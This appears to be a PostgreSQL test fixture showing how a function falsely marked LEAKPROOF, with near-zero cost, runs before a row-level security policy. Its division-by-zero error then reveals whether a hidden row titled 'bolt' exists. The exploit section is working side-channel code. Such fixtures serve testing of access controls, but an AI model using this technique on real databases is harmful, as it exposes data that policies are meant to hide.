-- A function marked LEAKPROOF is asked before the policy, and says what it is asked.
-- object: public.is_test(text)
-- base: uuid
--- setup
RESET ROLE;
CREATE FUNCTION is_test(title text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS $$
BEGIN
    RETURN 1 / (title <> 'bolt')::integer = 1;
END $$;
--- leak
RESET ROLE;
ALTER FUNCTION is_test(text) LEAKPROOF;
--- exploit
SET LOCAL enable_indexscan = off;
SET LOCAL enable_bitmapscan = off;
DO $$
BEGIN
    PERFORM set_config('app.seen', '', true);
    PERFORM count(*) FROM items WHERE is_test(title);
EXCEPTION WHEN division_by_zero THEN
    PERFORM set_config('app.seen', 'bolt', true);
END $$;
SELECT WHERE current_setting('app.seen', true) = 'bolt';
